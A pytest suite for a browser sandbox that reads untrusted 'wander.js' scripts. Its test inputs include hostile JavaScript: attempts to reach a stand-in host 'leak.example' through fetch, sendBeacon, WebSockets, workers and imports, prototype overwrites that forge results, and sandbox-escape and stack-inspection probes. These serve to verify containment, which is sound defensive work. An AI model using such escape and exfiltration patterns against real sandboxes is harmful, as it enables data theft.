"""What the sandbox makes of a stranger's `wander.js`: a checked list, or none."""

from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any, Protocol

import pytest
from playwright.sync_api import Page
from starlette.responses import HTMLResponse, PlainTextResponse, RedirectResponse, Response

from tests.conftest import ROOT
from tests.live import wait_until
from tests.network import Network, silence
from tests.wanderjs_forms import SCRIPTS
from tests.witness import Witness
from wander.console import Console
from wander.site.bundle import Bundle
from wander.site.linker import Linker
from wander.site.policy import page_policy
from wander.urls import well_formed

DEADLINE = 6.0
"""Seconds after which a program is ended."""
MOST_ENTRIES = 1000
"""Pages and consoles, each, that are taken from one list."""

PAGE = "http://page.example/"
LIST = f"{{ pages: ['{PAGE}'] }}"
FORGED = "http://forged.example/"
LEAK = "http://leak.example/"


def script(program: str, **headers: str) -> Response:
    return Response(program, media_type="text/javascript", headers=headers)


class ReadAll(Protocol):
    def __call__(self, consoles: Iterable[str], deadline: float = DEADLINE) -> dict[str, Any]: ...


@pytest.fixture
def sandbox(page: Page, network: Network, tmp_path: Path) -> Page:
    """A page with the console's own policy and the sandbox alone: it has `readConsole()`."""
    for module in (ROOT / "static" / "console").glob("*.js"):
        (tmp_path / module.name).symlink_to(module)
    (tmp_path / "alone.js").write_text(
        "import { readConsole } from './sandbox.js'\nwindow.readConsole = readConsole\n"
    )
    linker = Linker(tmp_path, str)
    bundle = Bundle("", linker.program("alone.js"), linker.program("sandbox-frame.js"))
    policy = page_policy(bundle, Console(), bundle.script, from_disk=False)
    network.page(
        "http://me.example/",
        f"<!doctype html><title>me</title><body><script>{bundle.script}</script>",
        **{"Content-Security-Policy": policy},
    )
    page.goto("http://me.example/")
    return page


@pytest.fixture
def read_all(sandbox: Page) -> ReadAll:
    """Asks consoles, three at a time.

    Gives the checked list of each, or None where there was none to be had.
    """

    def read_all(consoles: Iterable[str], deadline: float = DEADLINE) -> dict[str, Any]:
        answers: dict[str, Any] = sandbox.evaluate(
            """async ([consoles, deadline]) => {
              const answers = {}
              await Promise.all([1, 2, 3].map(async () => {
                while (consoles.length) {
                  const url = consoles.shift()
                  answers[url] = await readConsole(url, deadline)
                }
              }))
              return answers
            }""",
            [list(consoles), deadline * 1000],
        )
        return answers

    return read_all


class Read(Protocol):
    def __call__(
        self, programs: Mapping[str, str], deadline: float = DEADLINE
    ) -> dict[str, Any]: ...


@pytest.fixture
def read(network: Network, read_all: ReadAll) -> Read:
    """What the sandbox makes of these programs, given by name."""

    def read(programs: Mapping[str, str], deadline: float = DEADLINE) -> dict[str, Any]:
        urls = {name: f"http://n{number}.example/" for number, name in enumerate(programs)}
        for name, url in urls.items():
            network.script(url, programs[name])
        answers = read_all(urls.values(), deadline)
        return {name: answers[url] for name, url in urls.items()}

    return read


def pages_of(answers: Mapping[str, Any]) -> dict[str, list[str] | None]:
    return {name: answer and answer["pages"] for name, answer in answers.items()}


def test_a_list_counts_however_it_is_declared(read: Read) -> None:
    programs = {
        "const": f"const wander = {LIST}",
        "let": f"let wander = {LIST}",
        "var": f"var wander = {LIST}",
        "nothing": f"wander = {LIST}",
        "window": f"window.wander = {LIST}",
        "self": f"self.wander = {LIST}",
        "a getter": f"Object.defineProperty(self, 'wander', {{ get: () => ({LIST}) }})",
        "getters": f"const wander = {{ get pages() {{ return [...new Set(['{PAGE}'])] }} }}",
        "frozen": f"const wander = Object.freeze({{ pages: Object.freeze(['{PAGE}']) }})",
        "an instance": f"class List {{ pages = ['{PAGE}'] }}\nconst wander = new List()",
        "a proxy": f"const wander = new Proxy({{ pages: new Proxy(['{PAGE}'], {{}}) }}, {{}})",
        "log lines": f"console.log('hello'); const wander = {LIST}; console.table(wander)",
        "before it throws": f"const wander = {LIST}\nthrow new Error('too late')",
        "before it fails": f"const wander = {LIST}\ndocument.title = wander.title",
        "with an endless rest": f"const wander = {LIST}\n;(async () => {{ for (;;) await 0 }})()",
    }
    assert pages_of(read(programs)) == {name: [PAGE] for name in programs}


def test_what_is_no_list_is_none(read: Read) -> None:
    programs = {
        "empty": "",
        "something else": "const wanderer = {}",
        "a syntax error": f"const wander = {LIST} }}",
        "HTML": "<!doctype html><title>Not found</title>",
        "throws first": f"throw 1\nvar wander = {LIST}",
        "a throwing getter": "Object.defineProperty(self, 'wander', { get() { throw 1 } })",
        "null": "const wander = null",
        "a string": f"const wander = '{PAGE}'",
        "a function": f"function wander() {{}}\nwander.pages = ['{PAGE}']",
        "a class": f"class wander {{ static pages = ['{PAGE}'] }}",
    }
    assert pages_of(read(programs)) == dict.fromkeys(programs)


def test_of_what_is_wrong_the_rest_counts(read: Read) -> None:
    programs: dict[str, tuple[str, list[str]]] = {
        "a string for a list": (f"pages: '{PAGE}'", []),
        "an object for a list": (f"pages: {{ 0: '{PAGE}', length: 1 }}", []),
        "a throwing getter for a list": ("get pages() { throw 1 }", []),
        "a proxy that throws": ("pages: new Proxy([1], { get() { throw 1 } })", []),
        "a revoked proxy": (
            "get pages() { const p = Proxy.revocable([], {}); p.revoke(); return p.proxy }",
            [],
        ),
        "other things among strings": (
            f"pages: [1, 'a', null, , undefined, {{}}, ['b'], 2n, Symbol(), new String('{PAGE}'),"
            f" () => 1, {{ toString: () => '{PAGE}' }}, 'c']",
            ["a", "c"],
        ),
        "an entry that throws": (
            "pages: Object.defineProperty(['a', 'b', 'c'], 1, { get() { throw 1 } })",
            ["a"],
        ),
        "ten million letters": (f"pages: ['http://' + 'x'.repeat(1e7), '{PAGE}']", [PAGE]),
        "notes that throw": (f"pages: ['{PAGE}'], get notes() {{ throw 1 }}", [PAGE]),
        "notes that are none": (f"pages: ['{PAGE}'], notes: 7, title: {{}}", [PAGE]),
        "a note that throws": (
            f"pages: ['{PAGE}'], notes: {{ get '{PAGE}'() {{ throw 1 }} }}",
            [PAGE],
        ),
        "a note and a title that are too long": (
            f"pages: ['{PAGE}'], notes: {{ '{PAGE}': 'x'.repeat(1e7) }}, title: 'x'.repeat(1e7)",
            [PAGE],
        ),
    }
    answers = read({name: f"const wander = {{ {said} }}" for name, (said, _) in programs.items()})
    assert pages_of(answers) == {name: pages for name, (_, pages) in programs.items()}
    assert {name for name in answers if answers[name]["title"] or answers[name]["notes"]} == set()


def test_what_the_language_offers_may_be_overwritten(read: Read) -> None:
    programs = {
        "JSON": f"JSON.parse = JSON.stringify = () => '[\"{FORGED}\"]'; JSON = null",
        "Array": "Array.isArray = () => false; Array.prototype.push = () => {}; Array = null",
        "Array.prototype": f"""
            for (const index of [0, 1, 2]) {{
              Object.defineProperty(Array.prototype, index, {{ get: () => '{FORGED}', set() {{}} }})
            }}""",
        "iterators": "Array.prototype[Symbol.iterator] = String.prototype[Symbol.iterator] = null",
        "String.prototype": f"""
            for (const name of Object.getOwnPropertyNames(String.prototype)) {{
              String.prototype[name] = () => '{FORGED}'
            }}""",
        "toJSON": f"Object.prototype.toJSON = String.prototype.toJSON = () => '{FORGED}'",
        "toString": f"""
            Object.prototype.toString = Object.prototype.valueOf = () => '{FORGED}'
            String.prototype.toString = String.prototype.valueOf = () => '{FORGED}'
            String.prototype[Symbol.toPrimitive] = () => '{FORGED}'""",
        "Object.prototype": f"""
            const trap = {{ get: () => '{FORGED}', set() {{ throw 1 }} }}
            const names = ['url', 'text', 'data', 'transfer', 'notes', 'title', 'get', 'set']
            for (const name of names) {{
              Object.defineProperty(Object.prototype, name, trap)
            }}""",
        "Function.prototype": """
            for (const name of ['call', 'apply', 'bind', 'toString']) {
              Function.prototype[name] = () => { throw 1 }
            }""",
        "Promise": "Promise.prototype.then = null; Promise = class { constructor() { throw 1 } }",
        "Math": "Math.random = () => NaN; Math = null",
        "RegExp": "RegExp.prototype.test = RegExp.prototype.exec = () => true; RegExp = null",
        "Reflect": """
            Reflect.deleteProperty = () => true
            Object.getOwnPropertyNames = Object.getPrototypeOf = () => null""",
        "what speaks": "postMessage = importScripts = onmessage = close = console = null",
        "all of it": "for (const name of Object.getOwnPropertyNames(self)) self[name] = null",
    }  # fmt: skip
    first = f"pages: ['{PAGE}', 'b'], title: '', notes: {{ '{PAGE}': 'N' }}"
    before = f"const wander = {{ {first} }}\n"
    after = "\nwander.title = 'overwritten'"
    answers = read({name: before + program + after for name, program in programs.items()})
    said = {name: (a and (a["pages"], a["title"], a["notes"])) for name, a in answers.items()}
    assert said == {name: ([PAGE, "b"], "overwritten", {PAGE: "N"}) for name in programs}


def test_a_list_has_the_language_and_nothing_else(read: Read) -> None:
    """Whatever a browser offers to Workers is taken away, also what it will offer one day."""
    program = """
      const found = []
      for (let owner = self; owner !== Object.prototype; owner = Object.getPrototypeOf(owner)) {
        for (const name of Object.getOwnPropertyNames(owner)) {
          const { value, get } = Object.getOwnPropertyDescriptor(owner, name)
          if (get || Object(value) === value) found.push(name)
        }
      }
      const attempts = [
        () => self.constructor === Object,
        () => Function('return this')() && 'programs can be made of text',
        () => (async () => {}).constructor('return this') && 'programs can be made of text',
        () => (0, eval)('this') && 'programs can be made of text',
      ]
      const result = attempt => { try { return String(attempt()) } catch { return 'refused' } }
      const wander = { pages: found, consoles: attempts.map(result) }
    """
    answer = read({"names": program})["names"]
    assert answer["consoles"] == ["true", "refused", "refused", "refused"]
    assert set(answer["pages"]) == {
        "Array", "BigInt", "Boolean", "Date", "Error", "Function", "JSON", "Map", "Math", "Number",
        "Object", "Promise", "Proxy", "Reflect", "RegExp", "Set", "String", "Symbol", "URL",
        "URLSearchParams", "console", "decodeURI", "decodeURIComponent", "encodeURI",
        "encodeURIComponent", "globalThis", "isFinite", "isNaN", "parseFloat", "parseInt", "self",
        "window",
    }  # fmt: skip


def test_our_own_program_gives_nothing_away(read: Read) -> None:
    """Getters are called by the sandbox's own functions, which could be found on the stack."""
    program = f"""
      const found = []
      Error.prepareStackTrace = (error, sites) => {{
        for (const thing of sites.flatMap(site => [site.getFunction(), site.getThis()])) {{
          if (![undefined, getter, wander].includes(thing)) found.push('on the stack')
        }}
      }}
      const getter = function () {{
        try {{ if (getter.caller) found.push('a caller') }} catch {{}}
        try {{ if (getter.arguments.length) found.push('arguments') }} catch {{}}
        new Error().stack
        return ['{PAGE}']
      }}
      const wander = {{ get pages() {{ return found }} }}
      Object.defineProperty(wander, 'consoles', {{ get: getter }})
    """
    answer = read({"stack": program})["stack"]
    assert answer["consoles"] == [PAGE]
    assert answer["pages"] == []


def test_the_sandbox_measures_what_it_is_told(page: Page, read: Read) -> None:
    many = "Array.from({ length: 3e6 }, (_, i) => 'http://p' + i + '.example/')"
    awkward = "'\\u0001'"  # six characters in JSON
    answers = read(
        {
            "three million": f"const wander = {{ pages: {many}, consoles: {many} }}",
            "as much as there may be": f"""
              const all = Array.from({{ length: 3000 }}, (_, i) => i + {awkward}.repeat(3990))
              const note = {awkward}.repeat(10000)
              const wander = {{ pages: all, consoles: all, title: {awkward}.repeat(200),
                notes: Object.fromEntries(all.map(entry => [entry, note])) }}""",
        },
        deadline=30,
    )
    for key in ("pages", "consoles"):
        entries = answers["three million"][key]
        first = int(entries[0].removeprefix("http://p").removesuffix(".example/"))
        expected = [f"http://p{(first + i) % 3_000_000}.example/" for i in range(MOST_ENTRIES)]
        assert entries == expected
        assert first, "the end of a long list has no chance"
    most = answers["as much as there may be"]
    assert most["pages"]
    assert most["consoles"]
    assert sum(map(len, most["pages"] + most["consoles"])) < 100_000


def test_only_a_script_counts_from_that_host(network: Network, read_all: ReadAll) -> None:
    list_ = f"const wander = {LIST}"
    nosniff = {"X-Content-Type-Options": "nosniff"}
    answers = {
        "404": Response(list_, 404, media_type="text/javascript"),
        "500": Response(list_, 500, media_type="text/javascript"),
        "html": HTMLResponse(list_),
        "html-said-to-be-script": script("<!doctype html>"),
        "text": PlainTextResponse(list_, headers=nosniff),
        "elsewhere": RedirectResponse(LEAK + "wander.js"),
        "round-and-round": RedirectResponse("http://round-and-round.example/wander.js"),
        "within": RedirectResponse("http://within.example/list.js"),
        "to-www": RedirectResponse("http://www.to-www.example/wander.js"),
        "www.from-www": RedirectResponse("http://from-www.example/wander.js"),
    }  # fmt: skip
    for host, answer in answers.items():
        network.answer(f"http://{host}.example/wander.js", answer)
    network.answer("http://within.example/list.js", script(list_))
    network.answer("http://www.to-www.example/wander.js", script(list_))
    network.answer("http://from-www.example/wander.js", script(list_))
    network.script(LEAK, list_)
    read = pages_of(read_all(f"http://{host}.example/" for host in answers))
    assert {console for console in read if read[console]} == {
        "http://within.example/", "http://to-www.example/", "http://www.from-www.example/",
    }  # fmt: skip
    assert network.visits_to("leak.example") == []


def test_nothing_reaches_another_host(network: Network, page: Page, read: Read) -> None:
    """Each way of asking a network is tried; most are not there to be tried."""
    ways = {
        "fetch": f"fetch('{LEAK}fetch')",
        "fetch-keepalive": f"fetch('{LEAK}keepalive', {{ keepalive: true, mode: 'no-cors' }})",
        "XMLHttpRequest": f"const x = new XMLHttpRequest; x.open('GET', '{LEAK}'); x.send()",
        "sendBeacon": f"navigator.sendBeacon('{LEAK}beacon', 'x')",
        "Image": f"new Image().src = '{LEAK}image'",
        "WebSocket": f"new WebSocket('{LEAK.replace('http', 'ws')}socket')",
        "WebSocketStream": f"new WebSocketStream('{LEAK.replace('http', 'ws')}stream')",
        "WebTransport": "new WebTransport('https://leak.example/')",
        "EventSource": f"new EventSource('{LEAK}events')",
        "FontFace": f"const f = new FontFace('f', 'url({LEAK}font)'); fonts.add(f); f.load()",
        "importScripts": f"importScripts('{LEAK}script.js')",
        "Worker": f"new Worker('{LEAK}worker.js')",
        "Worker-within": f"""new Worker(URL.createObjectURL(new Blob(["fetch('{LEAK}w')"])))""",
        "import": f"import('{LEAK}module.js').catch(() => {{}})",
        "import-redirected": "import('/to-leak.js').catch(() => {})",
        "import-data": f"""import('data:text/javascript,import("{LEAK}d.js")').catch(() => {{}})""",
        "console": f"console.log('%c ', 'background: url({LEAK}console)')",
        "cookie": "document.cookie = 'a=b'; document.cookie.x.y",
        "localStorage": "localStorage.setItem('a', 'b')",
        "sessionStorage": "sessionStorage.setItem('a', 'b')",
        "indexedDB": "indexedDB.open('a')",
        "caches": "caches.open('a')",
        "open": f"open('{LEAK}window')",
        "alert": "alert('hello')",
        "location": f"location.href = '{LEAK}location'",
        "parent": f"parent.location = top.location = '{LEAK}top'",
        "document": f"document.write('<img src={LEAK}written>')",
    }  # fmt: skip
    for number in range(len(ways)):
        network.answer(
            f"http://n{number}.example/to-leak.js", RedirectResponse(LEAK + "redirected.js")
        )
    after = f"const wander = {LIST}"
    answers = read({name: f"try {{ {way} }} catch {{}}\n{after}" for name, way in ways.items()})
    assert pages_of(answers) == {name: [PAGE] for name in ways}
    page.wait_for_timeout(300)
    own = {f"n{number}.example" for number in range(len(ways))}
    assert {visit.host for visit in network.visits} == own | {"me.example"}
    visits = [visit for visit in network.visits if visit.path == "/wander.js"]
    assert [v for v in visits if v.headers.keys() & {"cookie", "referer", "origin"}] == []


def test_the_policy_would_hold_by_itself(network: Network, page: Page, read_all: ReadAll) -> None:
    """Everything is taken from a stranger's Worker; here is one that still has it all."""
    network.mount("slow.example", silence)
    network.answer("http://slow.example/to-leak.js", RedirectResponse(LEAK + "redirected.js"))
    allowed = script("", **{"Access-Control-Allow-Origin": "*"})
    for path in ("own.js", "module.js"):
        network.answer(f"http://slow.example/{path}", allowed)
    page.evaluate("() => { readConsole('http://slow.example/', 8000) }")
    wait_until(lambda: len(page.frames) == 2)
    attempts = f"""
      const attempt = async action => {{ try {{ await action() }} catch {{}} }}
      attempt(() => importScripts('http://slow.example/own.js'))
      attempt(() => importScripts('http://slow.example/to-leak.js'))
      attempt(() => importScripts('{LEAK}script.js'))
      attempt(() => importScripts('data:text/javascript,fetch("{LEAK}data")'))
      attempt(() => import('http://slow.example/module.js'))
      attempt(() => import('http://slow.example/to-leak.js'))
      attempt(() => import('{LEAK}module.js'))
      attempt(() => fetch('{LEAK}fetch'))
      attempt(() => fetch('{LEAK}fetch', {{ method: 'POST', mode: 'no-cors', keepalive: true }}))
      attempt(() => new WebSocket('{LEAK.replace("http", "ws")}socket'))
      attempt(() => new EventSource('{LEAK}events'))
      attempt(() => new FontFace('f', 'url({LEAK}font)').load())
      attempt(() => new Worker('{LEAK}worker.js'))
      attempt(() => eval('fetch("{LEAK}eval")'))
      attempt(() => {{ const x = new XMLHttpRequest; x.open('GET', '{LEAK}xhr', false); x.send() }})
      attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('{LEAK}nested')"]))))
      setTimeout(() => postMessage('tried'), 500)
    """
    said = page.frames[1].evaluate(
        """program => new Promise(resolve => {
          const worker = new Worker(URL.createObjectURL(new Blob([program])))
          worker.onmessage = ({ data }) => resolve(data)
        })""",
        attempts,
    )
    assert said == "tried"
    assert {visit.path for visit in network.visits_to("slow.example")} == {
        "/wander.js", "/own.js", "/to-leak.js", "/module.js",
    }  # fmt: skip
    assert {visit.host for visit in network.visits} == {"me.example", "slow.example"}


@pytest.mark.slow
def test_a_drowned_sandbox_is_left_for_a_new_one(network: Network, sandbox: Page) -> None:
    """`import()` cannot be taken away, and its refusals drown the thread that ends the Workers.

    Whoever is asked at that time must not suffer for it.
    """
    drowning, good = "http://drowning.example/", "http://good.example/"
    network.script(drowning, f"for (;;) import('{LEAK}').catch(() => {{}})")
    network.console(good, pages=[PAGE])
    with Witness(sandbox) as witness:
        sandbox.reload()
        answers = sandbox.evaluate(
            """async ([drowning, good]) => {
              const drowned = readConsole(drowning)
              await new Promise(resolve => setTimeout(resolve, 1000))
              return Promise.all([drowned, readConsole(good)])
            }""",
            [drowning, good],
        )
        witness.assert_calm()
    assert answers[0] is None
    assert answers[1]["pages"] == [PAGE]
    assert sandbox.locator("iframe").count() == 0
    assert network.visits_to("leak.example") == []


def test_readings_leave_nothing_behind(page: Page, read: Read) -> None:
    programs = {f"{number}": f"const wander = {LIST}" for number in range(25)}
    programs |= {f"broken {number}": "throw 1" for number in range(25)}
    assert list(pages_of(read(programs)).values()) == [[PAGE]] * 25 + [None] * 25
    assert page.locator("iframe").count() == 0


def test_it_finds_in_each_case_of_the_format_what_stands_there(
    read_all: ReadAll, network: Network
) -> None:
    """Those that only running them tells included. A neighbour's patterns are not asked for.

    An array instead of an object is an empty list here, which is as good as none.
    """
    expected = {}
    for number, case in enumerate(SCRIPTS):
        url = f"http://c{number}.example/"
        network.answer(url + "wander.js", script(case.script))
        said = case.console or Console()
        expected[url] = [said.title, *said.pages, *said.consoles]
    found = {
        url: [well_formed(text) for text in (said["title"], *said["pages"], *said["consoles"])]
        if said
        else [""]
        for url, said in read_all(expected).items()
    }
    assert found == expected
